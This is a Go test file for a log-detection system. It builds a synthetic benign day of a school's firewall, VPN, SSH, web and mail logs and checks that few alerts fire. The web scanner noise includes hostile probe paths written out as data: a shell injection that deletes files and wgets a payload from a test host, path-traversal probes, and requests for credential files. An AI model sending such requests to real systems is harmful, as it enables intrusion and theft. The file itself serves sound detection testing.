package rules_test

import (
	"fmt"
	"maps"
	"math/rand/v2"
	"net/netip"
	"slices"
	"testing"
	"time"

	"tocsin/internal/collector/minimise"
	"tocsin/internal/collector/parse"
	"tocsin/internal/detect"
	"tocsin/internal/event"
	"tocsin/internal/load/sample"
	"tocsin/rules"
)

// Bounds on what an ordinary day may raise at one member. What is low or informational is read once a day; nobody is woken by it.
const (
	maxLoudADay = 0 // medium and above
	maxLowADay  = 2 // low and informational
)

// day is one member's site and the hub behind it: lines of devices are parsed, detected on, minimised and detected on again.
type day struct {
	t         *testing.T
	parse     *parse.Set
	min       *minimise.Minimiser
	site, hub *detect.Engine
	in, out   event.Event
	seq       uint32
	lines     int
	alerts    map[string]string // family and entity, which is what makes an alert, and the first reason
	levels    map[string]string
}

func newDay(t *testing.T) *day {
	cat, err := detect.Load(rules.FS)
	if err != nil {
		t.Fatal(err)
	}
	d := &day{t: t, parse: parse.New(parse.Options{Location: time.UTC}), alerts: map[string]string{}, levels: map[string]string{}}
	for where, to := range map[detect.Where]**detect.Engine{detect.Site: &d.site, detect.Hub: &d.hub} {
		if *to, err = detect.New(detect.Options{Catalogue: cat, Where: where}); err != nil {
			t.Fatal(err)
		}
	}
	policy, err := minimise.Load("metadata")
	if err != nil {
		t.Fatal(err)
	}
	if d.min, err = minimise.New(minimise.Options{Policy: policy, Own: []netip.Prefix{netip.MustParsePrefix("198.51.100.0/27")}}); err != nil {
		t.Fatal(err)
	}
	return d
}

func (d *day) note(found []event.Detection) {
	for _, x := range found {
		key := x.Family + " " + x.Entity.Value
		if d.alerts[key] == "" {
			d.alerts[key] = x.Level + ": " + x.RuleTitle + ": " + x.Reason
		}
		if d.levels[key] == "" || slices.Index(levels, x.Level) > slices.Index(levels, d.levels[key]) {
			d.levels[key] = x.Level
		}
	}
}

var levels = []string{"informational", "low", "medium", "high", "critical"}

func (d *day) line(text []byte, at time.Time) {
	now := at.UnixNano()
	e := &d.in
	e.Reset()
	e.Created = now
	e.SetRaw(text)
	if _, ok := d.parse.Parse(e, ""); !ok {
		d.t.Fatalf("not understood: %s", text)
	}
	d.lines++
	d.seq++
	d.min.Prepare(e, minimise.Sender{Addr: netip.MustParseAddr("10.21.0.1"), Assurance: "udp"})
	e.Tenant, e.ID = 1, event.ID{Seq: 1, Index: d.seq}
	d.note(d.site.Process(e, now))
	if x := d.min.Decide(e); x.Leave {
		d.min.Mark(e, x)
		d.min.Reduce(&d.out, e)
		d.out.Tenant, d.out.ID = e.Tenant, e.ID
		d.note(d.hub.Process(&d.out, now))
	}
}

// TestBenignDay is an ordinary day of a school with a line of its own, 30 public addresses, a web site, a mail server, an SSH server and Microsoft
// 365, constructed from templates of real lines: what its people do, and the noise of the Internet that every address gets.
func TestBenignDay(t *testing.T) {
	for _, seed := range []uint64{7, 105, 107} {
		t.Run(fmt.Sprint(seed), func(t *testing.T) { benignDay(t, seed) })
	}
}

func benignDay(t *testing.T, seed uint64) {
	d := newDay(t)
	rng := rand.New(rand.NewPCG(seed, 11))
	begin := time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC)
	set := sample.All()
	type item struct {
		at   time.Duration
		text func(at time.Time) []byte
	}
	var items []item
	add := func(at time.Duration, text func(at time.Time) []byte) {
		if at < 24*time.Hour {
			items = append(items, item{at, text})
		}
	}
	anytime := func() time.Duration { return time.Duration(rng.Int64N(int64(24 * time.Hour))) }
	work := func() time.Duration { return 8*time.Hour + time.Duration(rng.Int64N(int64(9*time.Hour))) }
	template := func(key string, v sample.Values) func(time.Time) []byte {
		return func(at time.Time) []byte {
			v.Time = at
			return set.Template(key).Append(nil, &v)
		}
	}
	text := func(layout, format string, args ...any) func(time.Time) []byte {
		return func(at time.Time) []byte {
			return fmt.Appendf(nil, format, append([]any{at.UTC().Format(layout)}, args...)...)
		}
	}
	public := func() netip.Addr { return netip.AddrFrom4([4]byte{198, 51, 100, byte(1 + rng.IntN(30))}) }
	inside := func() netip.Addr {
		return netip.AddrFrom4([4]byte{10, 21, byte(1 + rng.IntN(3)), byte(20 + rng.IntN(150))})
	}
	server := func() netip.Addr { return netip.AddrFrom4([4]byte{192, 0, 2, byte(1 + rng.IntN(120))}) }
	stranger := func(n int) netip.Addr { return netip.AddrFrom4([4]byte{198, 18, byte(n >> 8), byte(n)}) } // RFC 2544
	port := func() uint16 { return uint16(32768 + rng.IntN(28000)) }
	deny := func(at time.Duration, src netip.Addr, to uint16) {
		x := set.Pick(rng, true)
		key := []string{"fortigate/deny", "asa/deny-acl"}[rng.IntN(2)]
		add(at, template(key, sample.Values{Host: "fw", Src: src, Dst: public(), NAT: src, SrcPort: port(), DstPort: to, Sent: x.Sent, SentPkt: 1, Seq: rng.Uint64N(1 << 30)}))
	}

	// What people do: browsing, the VPN, mistyped passwords, their cloud accounts, names.
	for range 12_000 {
		x := set.Pick(rng, false)
		v := sample.Values{Host: "fw", Src: inside(), Dst: server(), NAT: public(), SrcPort: port(), NATPort: port(), DstPort: 443, Sent: x.Sent, Rcvd: x.Rcvd, SentPkt: x.SentPkt, RcvdPkt: x.RcvdPkt, Seconds: x.Seconds, Seq: rng.Uint64N(1 << 30)}
		if rng.IntN(4) == 0 {
			v.DstPort = 80
		}
		add(work(), template("fortigate/close", v))
	}
	for person := range 40 {
		user, home := fmt.Sprintf("staff%d", person), netip.AddrFrom4([4]byte{192, 0, 2, byte(130 + person)})
		for range 3 {
			at := work()
			if rng.IntN(5) == 0 {
				for n := range 3 {
					add(at-time.Duration(n+1)*20*time.Second, template("fortigate/vpn-fail", sample.Values{Host: "fw", Src: home, Dst: public(), NAT: public(), User: user, SrcPort: port(), DstPort: 10443, Seq: 1}))
				}
			}
			add(at, template("fortigate/vpn-up", sample.Values{Host: "fw", Src: home, Dst: public(), NAT: inside(), User: user, SrcPort: port(), DstPort: 10443, Seq: 1}))
		}
		for n := range 6 {
			state := "UserLoggedIn"
			if n == 0 && rng.IntN(3) == 0 {
				state = "UserLoginFailed"
			}
			add(work(), text("2006-01-02T15:04:05", `{"CreationTime":"%s","Id":"%d","Operation":"%s","OrganizationId":"0","RecordType":15,"UserKey":"1","UserType":0,"Version":1,"Workload":"AzureActiveDirectory","ClientIP":"%s","ObjectId":"x","UserId":"%s@school.example"}`, rng.IntN(1e9), state, home, user))
		}
		for range 60 {
			add(work(), text("Jan _2 15:04:05", "<30>%s dns1 dnsmasq[12]: query[A] %s.example from %s", []string{"www", "mail", "maths", "news", "video", "cdn7"}[rng.IntN(6)], inside()))
		}
	}
	// One telephone with an old password all day, a monitoring system that signs in by SSH, an administrator who changes a policy.
	for n := range 96 {
		add(time.Duration(n)*15*time.Minute, template("fortigate/vpn-fail", sample.Values{Host: "fw", Src: netip.MustParseAddr("192.0.2.250"), Dst: public(), NAT: public(), User: "staff7", SrcPort: port(), DstPort: 10443, Seq: 1}))
		add(time.Duration(n)*15*time.Minute+time.Minute, text("Jan _2 15:04:05", "<86>%s srv1 sshd[%d]: Accepted publickey for monitor from 10.21.0.9 port %d ssh2: ED25519 SHA256:x", 1000+n, port()))
	}
	for n := range 4 {
		add(15*time.Hour+time.Duration(n)*time.Minute, text("2006-01-02 15:04:05", `<190>date=%.10[1]s time=%[2]s devname="fw" devid="FGT60FEXAMPLE01" logid="0100044546" type="event" subtype="system" level="information" vd="root" logdesc="Attribute configured" user="admin" ui="GUI(10.21.0.5)" action="Edit" cfgtid=1 cfgpath="firewall.address" cfgobj="printer" cfgattr="comment[a->b]" msg="Edit firewall.address printer"`, fmt.Sprintf("15:%02d:00", n)))
	}

	// The noise of the Internet. Most strangers come once to one port; some come back; research scanners visit a dozen ports of every address over the day.
	favourites := []uint16{23, 23, 23, 22, 445, 3389, 80, 8080, 443, 5060, 1433, 6379, 5900, 2323, 81, 8443, 3306, 123, 53, 5555}
	for n := range 5_000 {
		for range 1 + rng.IntN(3) {
			deny(anytime(), stranger(n), favourites[rng.IntN(len(favourites))])
		}
	}
	for n := range 15 {
		for _, p := range favourites[3:15] {
			for range 25 {
				deny(anytime(), stranger(20_000+n), p)
			}
		}
	}
	// Strangers try names at the SSH server, each at the pace that such programs keep.
	for n := range 40 {
		at := anytime()
		for range 10 + rng.IntN(60) {
			at += 35*time.Second + time.Duration(rng.Int64N(int64(time.Minute)))
			add(at, template("sshd/invalid-user", sample.Values{Host: "srv1", Src: stranger(30_000 + n), User: []string{"admin", "test", "oracle", "ubuntu", "git", "postgres", "user", "pi", "ftpuser", "deploy"}[rng.IntN(10)], SrcPort: port(), Seq: rng.Uint64N(60_000)}))
		}
	}
	// The web site: readers, search engines, and programs that look for what they know.
	web := func(at time.Duration, src netip.Addr, method, path string, status int, agent string) {
		add(at, text("02/Jan/2006:15:04:05 +0000", `%[2]s - - [%[1]s] "%[3]s %[4]s HTTP/1.1" %[5]d %[6]d "-" "%[7]s"`, src, method, path, status, 200+rng.IntN(20_000), agent))
	}
	for range 4_000 {
		web(anytime(), server(), "GET", []string{"/", "/news", "/term-dates", "/img/logo.png", "/style.css", "/contact", "/search?q=union+meeting"}[rng.IntN(7)], 200, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
	}
	for n := range 300 {
		web(anytime(), stranger(40_000), "GET", fmt.Sprintf("/old/page%d", n), 404, "Mozilla/5.0 (compatible; search engine)")
	}
	probes := []string{"/.env", "/.git/config", "/wp-login.php", "/wp-admin/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/actuator/health", "/remote/login", "/owa/auth/logon.aspx", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
		"/shell?cd+/tmp;rm+-rf+*;wget+http://198.18.9.9/x", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/phpmyadmin/index.php", "/manager/html", "/solr/admin/info/system", "/hello.world?%ADd+allow_url_include%3d1", "/HNAP1/", "/index.php?s=/index/think/app", "/.aws/credentials", "/favicon.ico"}
	for n := range 400 {
		at := anytime()
		for range 1 + rng.IntN(5) {
			at += time.Duration(rng.Int64N(int64(5 * time.Second)))
			web(at, stranger(41_000+n), []string{"GET", "POST"}[rng.IntN(2)], probes[rng.IntN(len(probes))], 404, []string{"python-requests/2.31", "zgrab/0.x", "curl/8.0", "Mozilla/5.0"}[rng.IntN(4)])
		}
	}
	for n := range 3 { // an editor
		web(work(), netip.MustParseAddr("192.0.2.131"), "POST", "/wp-login.php", 302, fmt.Sprintf("Mozilla/5.0 (editor %d)", n))
	}
	// The mail server turns rubbish away.
	for n := range 500 {
		add(anytime(), text("2006-01-02 15:04:05", "%s H=(mail) [%s] F=<a%d@spam.example> rejected RCPT <staff%d@school.example>: relay not permitted", stranger(50_000+n%200), n, n%40))
	}
	// The sensor sees scans and chat.
	for n := range 200 {
		key := []string{"eve/alert-sshscan", "eve/alert-masscan"}[rng.IntN(2)]
		add(anytime(), template(key, sample.Values{Host: "ids", Src: stranger(n), Dst: netip.MustParseAddr("10.21.1.5"), SrcPort: port(), DstPort: 22, Seq: rng.Uint64N(1 << 30), Sent: 60, SentPkt: 1}))
	}

	slices.SortStableFunc(items, func(a, b item) int { return int(a.at - b.at) })
	for _, i := range items {
		at := begin.Add(i.at)
		d.line(i.text(at), at)
	}
	d.note(d.site.Flush(begin.Add(25 * time.Hour).UnixNano()))
	d.note(d.hub.Flush(begin.Add(25 * time.Hour).UnixNano()))
	loud, low := 0, 0
	for _, key := range slices.Sorted(maps.Keys(d.alerts)) {
		t.Logf("%s: %s", key, d.alerts[key])
		if slices.Index(levels, d.levels[key]) >= slices.Index(levels, "medium") {
			loud++
		} else {
			low++
		}
	}
	s := d.site.Stats()
	t.Logf("%d lines: %d alerts of medium or above, %d below; %d live groups on the site, %d bytes", d.lines, loud, low, s.Groups, s.StateBytes)
	if loud > maxLoudADay || low > maxLowADay {
		t.Errorf("%d alerts of medium or above and %d below, want at most %d and %d a day", loud, low, maxLoudADay, maxLowADay)
	}
	if s.Evicted > 0 {
		t.Errorf("%d groups had to be pushed out on the site on an ordinary day", s.Evicted)
	}
}
